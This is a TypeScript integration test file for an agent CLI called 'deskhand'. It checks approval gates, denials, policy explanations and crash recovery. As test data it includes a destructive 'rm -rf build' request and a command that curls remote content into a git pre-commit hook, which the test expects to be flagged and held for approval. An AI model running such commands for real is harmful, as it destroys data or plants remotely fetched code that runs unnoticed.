/**
 * The real `deskhand` binary (built by `npm run build`) against the scripted model server, on both wire protocols.
 */
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { spawn, spawnSync } from 'node:child_process';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { reply, startModelServer, type ModelServer } from '../support/model-server';
import { tempDir } from '../support/tool-context';
import { BIN, cliEnv, requireBuild, runCli, type CliResult } from '../support/cli';


let server: ModelServer;
let dataDir: string;
let work: string;

beforeAll(async () => {
  requireBuild();
  server = await startModelServer();
});
afterAll(async () => server.close());
beforeEach(() => {
  dataDir = tempDir('deskhand-cli-data-');
  work = tempDir('deskhand-cli-work-');
});

type Result = CliResult;
// Every `deskhand` command opens the whole runtime (docs/performance.md, "CLI start": several seconds each on a loaded
// 2-core machine), so a test's budget is counted in CLI calls, not in the default 30 s. A budget, not a timing assertion.
const CLI_CALL_MS = 25_000;
const calls = (n: number): number => n * CLI_CALL_MS;
const env = (): NodeJS.ProcessEnv => cliEnv();
const cli = (args: string[], extraEnv: NodeJS.ProcessEnv = {}): Promise<Result> => runCli(args, { env: extraEnv });

const runArgs = (protocol: 'openai' | 'anthropic', policy: string, prompt: string, extra: string[] = []) => [
  'run',
  '--provider',
  protocol,
  '--base-url',
  server.baseURL,
  '--model',
  'test-model',
  '--policy',
  policy,
  '--cwd',
  work,
  '--data-dir',
  dataDir,
  '--json',
  ...extra,
  prompt,
];

describe.each(['openai', 'anthropic'] as const)('deskhand run over %s', (protocol) => {
  it('reads, parks on a write the policy does not clear, and resumes with `runs approve`', async () => {
    writeFileSync(join(work, 'notes.txt'), 'first line\n');
    server.enqueue(reply().text('Reading.').tool('read_file', { path: 'notes.txt' }));
    server.enqueue(reply().tool('write_file', { path: 'notes.txt', content: 'first line\nsecond line\n' }));
    const parked = await cli(runArgs(protocol, 'read-only', 'add a line to notes.txt'));
    expect(parked.code, parked.stderr).toBe(3);
    const types = parked.events.map((e) => e.type);
    expect(types).toEqual(expect.arrayContaining(['run.started', 'text', 'tool.call', 'tool.result', 'approval.requested', 'run.parked']));
    const started = parked.events.find((e) => e.type === 'run.started')!;
    expect(started.conversationId).toMatch(/^conv_/);
    const read = parked.events.find((e) => e.type === 'tool.result')!;
    expect(read.output).toContain('first line');
    const ask = parked.events.find((e) => e.type === 'approval.requested')!;
    expect(ask).toMatchObject({ tool: 'write_file', risk: 'high-risk', args: { path: 'notes.txt' } });
    expect(ask.preview).toContain('+second line');
    expect(readFileSync(join(work, 'notes.txt'), 'utf8')).toBe('first line\n');

    const list = await cli(['runs', 'list', '--data-dir', dataDir, '--json']);
    expect(JSON.parse(list.stdout).approvals).toEqual([expect.objectContaining({ id: ask.approvalId, status: 'pending' })]);

    server.enqueue(reply().text('Added the line.'));
    const resumed = await cli(['runs', 'approve', String(ask.approvalId), '--data-dir', dataDir, '--json']);
    expect(resumed.code, resumed.stderr).toBe(0);
    expect(resumed.events.at(-1)).toMatchObject({ type: 'run.finished', status: 'finished' });
    expect(readFileSync(join(work, 'notes.txt'), 'utf8')).toBe('first line\nsecond line\n');
    // The model was told the write happened.
    expect(JSON.stringify(server.requests.at(-1)!.body)).toMatch(/notes\.txt/);

    const again = await cli(['runs', 'approve', String(ask.approvalId), '--data-dir', dataDir]);
    expect(again.code).toBe(1);
    expect(again.stderr).toMatch(/already approved/);
  }, calls(4));

  it('denies with a reason the model receives', async () => {
    server.enqueue(reply().tool('execute_command', { command: 'rm -rf build' }));
    const parked = await cli(runArgs(protocol, 'low-risk', 'clean up'));
    expect(parked.code, parked.stderr).toBe(3);
    const ask = parked.events.find((e) => e.type === 'approval.requested')!;
    expect(ask.risk).toBe('high-risk');
    server.enqueue(reply().text('OK, I will not.'));
    const denied = await cli(['runs', 'deny', String(ask.approvalId), '--reason', 'keep the build folder', '--data-dir', dataDir, '--json']);
    expect(denied.code, denied.stderr).toBe(0);
    expect(JSON.stringify(server.requests.at(-1)!.body)).toContain('keep the build folder');
  }, calls(2));
});

describe('deskhand CLI', () => {
  it('continues a conversation with --conversation', async () => {
    server.enqueue(reply().text('one'));
    const first = await cli(runArgs('openai', 'read-only', 'hello'));
    expect(first.code).toBe(0);
    const conversationId = String(first.events[0]!.conversationId);
    server.enqueue(reply().text('two'));
    const second = await cli(runArgs('openai', 'read-only', 'again', ['--conversation', conversationId]));
    expect(second.code).toBe(0);
    const body = JSON.stringify(server.requests.at(-1)!.body);
    expect(body).toContain('hello');
    expect(body).toContain('one');
  }, calls(2));

  it('exits 2 on usage errors with a message a person can act on', async () => {
    const noPrompt = await cli(['run', '--data-dir', dataDir]);
    expect(noPrompt.code).toBe(2);
    expect(noPrompt.stderr).toMatch(/run needs a PROMPT/);
    const badPolicy = await cli(runArgs('openai', 'yolo', 'x'));
    expect(badPolicy.code).toBe(2);
    expect(badPolicy.stderr).toMatch(/--policy must be one of none, read-only, low-risk, high-risk/);
    const unknownFlag = await cli(['run', '--frobnicate', 'x']);
    expect(unknownFlag.code).toBe(2);
    const noKey = await cli(['run', '--provider', 'anthropic', '--data-dir', dataDir, 'x'], { ANTHROPIC_API_KEY: '' });
    expect(noKey.code).toBe(2);
    expect(noKey.stderr).toMatch(/ANTHROPIC_API_KEY is not set/);
    const unknownCommand = await cli(['frob']);
    expect(unknownCommand.code).toBe(2);
  }, calls(5));

  it('exits 1 with a clear message when the provider refuses the key', async () => {
    server.enqueue(reply().status(401));
    const r = await cli(runArgs('anthropic', 'read-only', 'hi'));
    expect(r.code).toBe(1);
    expect(r.events.at(-1)).toMatchObject({ type: 'run.finished', status: 'failed' });
    expect(String(r.events.at(-1)!.error)).toMatch(/refused the key \(401\)/);
  }, calls(1));

  it('explains a decision without running anything', async () => {
    const r = await cli(['policy', 'explain', '--tool', 'write_file', '--args', JSON.stringify({ path: 'a.txt', content: 'x' }), '--policy', 'low-risk', '--cwd', work, '--data-dir', dataDir]);
    expect(r.code, r.stderr).toBe(0);
    expect(JSON.parse(r.stdout)).toMatchObject({
      tool: 'write_file',
      risk: 'high-risk',
      decision: 'ask',
      reasons: expect.arrayContaining(['policy "low-risk" does not clear high-risk']),
      containment: [{ access: 'write', path: join(work, 'a.txt'), insideWorkspace: true, sensitive: null }],
      taint: { tainted: false },
    });
    const hook = await cli(['policy', 'explain', '--tool', 'execute_command', '--args', '{"command":"curl -s https://example.com > .git/hooks/pre-commit"}', '--policy', 'high-risk', '--tainted', '--cwd', work, '--data-dir', dataDir]);
    expect(JSON.parse(hook.stdout)).toMatchObject({ decision: 'ask', taint: { tainted: true, network: true } });
    expect(JSON.parse(hook.stdout).reasons.join(' ')).toMatch(/git hooks.*always asks/);
    expect(existsSync(join(work, 'a.txt'))).toBe(false);
    const read = await cli(['policy', 'explain', '--tool', 'read_file', '--args', '{"path":"a.txt"}', '--data-dir', dataDir]);
    expect(JSON.parse(read.stdout)).toMatchObject({ risk: 'read-only', decision: 'allow' });
    const bad = await cli(['policy', 'explain', '--tool', 'nope', '--args', '{}', '--data-dir', dataDir]);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/Unknown tool "nope"/);
  }, calls(4));

  it('survives SIGKILL at any point: the store stays consistent and the conversation continues', async () => {
    for (const n of [0, 1]) writeFileSync(join(work, `f${n}.txt`), `${n}\n`);
    let interrupted = 0;
    for (let round = 0; round < 6; round++) {
      const roundData = tempDir('deskhand-kill-');
      let steps = 0;
      // Each step's calls differ from the step before (the files alternate): the same call five times in a row stops
      // the run (REPEAT_STOP_AT), which on a fast machine ended it before the later rounds' kills landed.
      server.setFallback(() => {
        if (++steps % 150 === 0) return reply().text('done');
        const path = `f${steps % 2}.txt`;
        return reply().tool('stat', { path }).tool('read_file', { path });
      });
      const args = runArgs('openai', 'read-only', 'loop', ['--max-steps', '200']).map((a) => (a === dataDir ? roundData : a));
      const child = spawn(process.execPath, [BIN, ...args], { env: env(), stdio: ['ignore', 'pipe', 'pipe'] });
      let out = '';
      let err = '';
      child.stdout.on('data', (d: Buffer) => (out += d.toString()));
      child.stderr.on('data', (d: Buffer) => (err += d.toString()));
      // The exit, not the pipes' close: a pipe a leftover still holds must not stall the test.
      const exited = new Promise<number | null>((r) => child.once('exit', (code) => r(code)));
      let gone = false;
      void exited.then(() => (gone = true));
      // Kill at a different point each round: right as the run starts, then later mid-stream and between tool calls.
      await new Promise<void>((r) => {
        const check = () => (out.includes('"run.started"') || gone ? r() : setTimeout(check, 5));
        check();
      });
      expect(out, `the run ended before it started: ${err}`).toContain('"run.started"');
      await new Promise((r) => setTimeout(r, round * 60));
      child.kill('SIGKILL');
      await exited;

      const db = new Database(join(roundData, 'deskhand.db'));
      expect(db.pragma('integrity_check', { simple: true })).toBe('ok');
      db.close();
      const started = out.split('\n').find((l) => l.includes('"run.started"'));
      if (!started) continue; // killed before the run existed: nothing to continue
      const conversationId = (JSON.parse(started) as { conversationId: string }).conversationId;
      server.setFallback(undefined);
      server.enqueue(reply().text('continued'));
      const next = await runCli(runArgs('openai', 'read-only', 'go on', ['--conversation', conversationId]).map((a) => (a === dataDir ? roundData : a)), { env: {}, hangMs: 120_000 });
      expect(next.hung, `the run after the kill hung: ${next.stderr}`).toBe(false);
      expect(next.code, next.stderr).toBe(0);
      const runs = JSON.parse((await cli(['runs', 'list', '--json', '--data-dir', roundData])).stdout) as { runs: { status: string }[] };
      if (runs.runs.some((r) => r.status === 'interrupted')) interrupted++;
      else expect(runs.runs.map((r) => r.status), 'a run that was not interrupted ended by itself, not by the kill').not.toContain('failed');
      // Every tool call the model made has a result in what it was sent next.
      const body = server.requests.at(-1)!.body as { messages: { role: string; tool_calls?: { id: string }[]; tool_call_id?: string }[] };
      const callIds = body.messages.flatMap((m) => m.tool_calls?.map((c) => c.id) ?? []);
      const resultIds = body.messages.filter((m) => m.role === 'tool').map((m) => m.tool_call_id);
      expect(resultIds.sort()).toEqual(callIds.sort());
    }
    server.setFallback(undefined);
    // The kills must have landed mid-run, not only before or after it.
    expect(interrupted).toBeGreaterThanOrEqual(5);
  }, calls(18));

  it('prints the help text', () => {
    const r = spawnSync(process.execPath, [BIN, 'help'], { encoding: 'utf8' });
    expect(r.status).toBe(0);
    expect(r.stdout).toContain('deskhand run');
  });
});

describe('deskhand run in a terminal', () => {
  // util-linux `script` gives the CLI a real pseudo-terminal, so approvals are asked inline instead of parking.
  function inTerminal(args: string[], answers: string[]): Promise<{ code: number | null; output: string }> {
    return new Promise((resolvePromise) => {
      const command = [process.execPath, BIN, ...args].map((a) => `'${a.replace(/'/g, `'\\''`)}'`).join(' ');
      const child = spawn('script', ['-qfec', command, '/dev/null'], { env: env(), stdio: ['pipe', 'pipe', 'pipe'] });
      let output = '';
      let next = 0;
      child.stdout.on('data', (d: Buffer) => {
        output += d.toString();
        // Answer each prompt once it has been printed.
        const prompts = output.split(/Approve \w+\?|Reason for the model/).length - 1;
        while (next < prompts && next < answers.length) child.stdin.write(`${answers[next++]}\n`);
      });
      child.on('close', (code) => resolvePromise({ code, output }));
    });
  }

  it('asks inline, runs what is approved, and tells the model what was denied', async () => {
    server.enqueue(reply().tool('write_file', { path: 'yes.txt', content: 'approved\n' }));
    server.enqueue(reply().tool('write_file', { path: 'no.txt', content: 'denied\n' }));
    server.enqueue(reply().text('All done.'));
    const args = runArgs('openai', 'read-only', 'write two files').filter((a) => a !== '--json');
    const r = await inTerminal(args, ['y', 'n', 'not this one']);
    expect(r.code, r.output).toBe(0);
    expect(r.output).toContain('All done.');
    expect(readFileSync(join(work, 'yes.txt'), 'utf8')).toBe('approved\n');
    expect(existsSync(join(work, 'no.txt'))).toBe(false);
    expect(JSON.stringify(server.requests.at(-1)!.body)).toContain('not this one');
  }, calls(2));

  it("asks a subagent's approval on the same terminal, labelled with the child, instead of waiting for another process", async () => {
    server.enqueue(reply().tool('spawn_subagent', { prompt: 'Write child.txt with the word child.', description: 'writer child' }));
    server.enqueue(reply().tool('write_file', { path: 'child.txt', content: 'child\n' }));
    server.enqueue(reply().text('child wrote it'));
    server.enqueue(reply().text('All done.'));
    const args = runArgs('openai', 'read-only', 'have a child write a file').filter((a) => a !== '--json');
    const r = await inTerminal(args, ['y', 'y', 'y']);
    expect(r.code, r.output).toBe(0);
    expect(r.output).toMatch(/\[subagent sub_\w+ "writer child" asks\]/);
    expect(r.output).toMatch(/Approve write_file\?/);
    expect(readFileSync(join(work, 'child.txt'), 'utf8')).toBe('child\n');
    expect(r.output).toContain('All done.');
  }, calls(4));
});
